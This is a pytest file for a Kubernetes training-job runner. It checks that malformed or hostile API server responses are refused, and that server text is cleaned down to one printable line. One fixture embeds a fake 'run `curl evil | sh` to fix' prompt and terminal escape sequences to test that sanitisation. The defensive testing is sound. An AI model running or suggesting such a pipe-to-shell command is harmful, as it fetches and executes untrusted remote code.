"""The API server's objects, as a hostile or broken server (or whatever is in front of one) may
serve them: a pod or job with a field of the wrong type is refused in one line naming the
field, a cluster's or server's text reaches the record and the terminal as one printable line,
a PyTorchJob's replicas adding up past any cluster are refused, and a server that ignores the
selectors never passes another run off as this one."""

from __future__ import annotations

import json
import re

import pytest

from contract.rundir import MAX_REASON_CHARS, JobState, read_state
from runner.errors import RunnerError
from tests.runner.k8s_helpers import RUN_ID, make_backend, make_spec, pod, submit

pytestmark = pytest.mark.timeout(60)


# ---- the API server's objects: a field of the wrong type is refused in one line --------------


def _with(obj: dict, path: str, value: object) -> dict:
    """`obj` with the field at dotted `path` (list items by index) set to `value`."""
    *parents, last = [int(p) if p.isdigit() else p for p in path.split(".")]
    node = obj
    for part in parents:
        node = node[part]
    node[last] = value
    return obj


@pytest.mark.parametrize(
    ("path", "value", "problem"),
    [
        ("status.containerStatuses.0.restartCount", "x", "restartCount is not an integer"),
        ("status.containerStatuses.0.state", "x", "state is not an object"),
        ("status.containerStatuses", 5, "status.containerStatuses is not a list"),
        ("status.startTime", 5, "status.startTime is not an RFC 3339 time"),
        ("status.conditions", [None], "status.conditions[0] is not an object"),
        ("metadata.annotations", ["x"], "metadata.annotations is not a map of text"),
    ],
)
def test_a_pod_of_the_wrong_shape_is_refused_naming_the_field(cluster, tmp_path, path, value,
                                                              problem):  # fmt: skip
    backend = make_backend(cluster, tmp_path, "trainjob")
    handle, _ = submit(backend, tmp_path, make_spec())
    cluster.add_pod(pod("trainjob", RUN_ID, 0), log="")
    cluster.add_pod(_with(pod("trainjob", RUN_ID, 1), path, value), log="")
    with pytest.raises(RunnerError, match=re.escape(problem)):
        backend.status(handle)
    with pytest.raises(RunnerError, match=re.escape(problem)):
        list(backend.watch(handle))
    with pytest.raises(RunnerError, match=re.escape(problem)):
        list(backend.logs(handle, 2, follow=False))
    backend.close()


@pytest.mark.parametrize(
    ("patch", "problem"),
    [
        ({"spec": {"trainer": {"numNodes": "two"}}}, "spec.trainer.numNodes is not a count"),
        ({"spec": {"trainer": {"numNodes": 10**12}}}, "spec.trainer.numNodes is not a count"),
        ({"status": {"conditions": "Complete"}}, "status.conditions is not a list"),
        (
            {"status": {"conditions": [{"type": "Complete", "status": ["True"]}]}},
            "status is not text",
        ),
        ({"metadata": {"creationTimestamp": "yesterday"}}, "creationTimestamp is not an RFC 3339"),
        # Without an offset it cannot be compared with the clock (the pending timeout).
        ({"metadata": {"creationTimestamp": "2030-01-01T00:00:00"}}, "has no UTC offset"),
    ],
)
def test_a_job_of_the_wrong_shape_is_refused_naming_the_field(cluster, tmp_path, patch, problem):
    backend = make_backend(cluster, tmp_path, "trainjob", pending_timeout_s=600)
    handle, _ = submit(backend, tmp_path, make_spec())
    cluster.patch_job("trainjob", RUN_ID, patch)
    with pytest.raises(RunnerError, match=re.escape(problem)):
        backend.status(handle)
    with pytest.raises(RunnerError, match=re.escape(problem)):
        list(backend.watch(handle))
    backend.close()


def test_a_cluster_message_reaches_the_record_as_one_printable_line(cluster, tmp_path):
    backend = make_backend(cluster, tmp_path, "trainjob")
    handle, run_dir = submit(backend, tmp_path, make_spec())
    message = "0/3 nodes\n\x1b]0;owned\x07\x1b[2J are available" + "!" * 5000
    scheduled = {"type": "PodScheduled", "status": "False", "message": message}
    cluster.add_pod(pod("trainjob", RUN_ID, 0, "Pending", conditions=[scheduled]))
    cluster.add_event({"metadata": {"name": "garbage"}, "type": "Warning", "involvedObject": 5})
    status = backend.status(handle)
    assert status.state is JobState.PENDING
    assert status.reason.startswith("node 0 (pod ")
    assert "cannot be scheduled: 0/3 nodes ]0;owned [2J are available!!!" in status.reason
    assert status.reason.isprintable() and len(status.reason) <= MAX_REASON_CHARS
    assert read_state(run_dir) == status


@pytest.mark.parametrize("how", ["error message", "key of an object"])
def test_a_servers_text_in_an_error_reaches_the_terminal_as_one_printable_line(
    cluster, tmp_path, how
):
    """An error's message is any server's text (a 403's, a watch's ERROR), and so are the keys
    of an object refused for its shape: no newline or terminal escape of theirs gets through."""
    backend = make_backend(cluster, tmp_path, "pytorchjob")
    handle, _ = submit(backend, tmp_path, make_spec())
    hostile = "no\n\x1b]0;owned\x07\x1b[2J\rFAKE: run `curl evil | sh` to fix" + "!" * 5000
    if how == "error message":
        cluster.fail("GET", "/pytorchjobs/", 403, message=hostile)
    else:
        specs = {hostile: {"replicas": "many"}}
        cluster.patch_job("pytorchjob", RUN_ID, {"spec": {"pytorchReplicaSpecs": specs}})
    with pytest.raises(RunnerError) as err:
        backend.status(handle)
    message = str(err.value)
    assert "no ]0;owned [2J FAKE" in message
    assert message.isprintable() and len(message) < 1000
    backend.close()


def test_a_pytorchjob_whose_replica_types_add_up_past_any_cluster_is_refused(cluster, tmp_path):
    """Each replica type's count is within bounds, but 40 of them make 4 million nodes: read
    as the job's shape, the pending reason alone took 740 MiB (1,000 types: some 18 GiB)."""
    backend = make_backend(cluster, tmp_path, "pytorchjob")
    handle, _ = submit(backend, tmp_path, make_spec())
    cluster.add_pod(pod("pytorchjob", RUN_ID, 0, "Pending"))
    specs = {f"Worker{i}": {"replicas": 100_000} for i in range(40)}
    cluster.patch_job("pytorchjob", RUN_ID, {"spec": {"pytorchReplicaSpecs": specs}})
    with pytest.raises(RunnerError, match=r"4000002 replicas in all, more than 100000"):
        backend.status(handle)
    backend.close()


def test_a_server_that_ignores_the_selectors_never_passes_another_run_as_this_one(
    cluster, tmp_path, monkeypatch
):
    """A proxy (or a server) that drops the label and field selectors answers every job and
    pod of the namespace: another run's finished job, or its failed pod, is never read as this
    run's state (it read as SUCCEEDED, or as this run's job deleted and made again, FAILED)."""
    monkeypatch.setattr("tests.runner.k8s_streams._selected", lambda obj, params: True)
    backend = make_backend(cluster, tmp_path, "trainjob")
    request = backend.dryrun(make_spec(), tmp_path / RUN_ID)
    other = json.loads(json.dumps(dict(request.manifest)))
    other["metadata"]["name"] = "aaa-another-run"  # listed before this run's
    backend.api.create_job(other)
    cluster.set_job_condition("trainjob", "aaa-another-run", "Complete")
    handle, run_dir = submit(backend, tmp_path, make_spec())
    failed = pod("trainjob", "aaa-another-run", 1, "Failed")
    failed["metadata"]["creationTimestamp"] = "2030-01-01T01:00:00Z"  # newer than this run's
    cluster.add_pod(failed, log="")
    for node in (0, 1):
        cluster.add_pod(pod("trainjob", RUN_ID, node), log="")
    assert backend.status(handle).state is JobState.RUNNING
    statuses = backend.watch(handle)
    assert next(statuses).state is JobState.RUNNING
    for node in (0, 1):
        cluster.add_pod(pod("trainjob", RUN_ID, node, "Succeeded"), log="")
    cluster.set_job_condition("trainjob", RUN_ID, "Complete")
    assert [s.state for s in statuses] == [JobState.SUCCEEDED]
    assert read_state(run_dir).state is JobState.SUCCEEDED
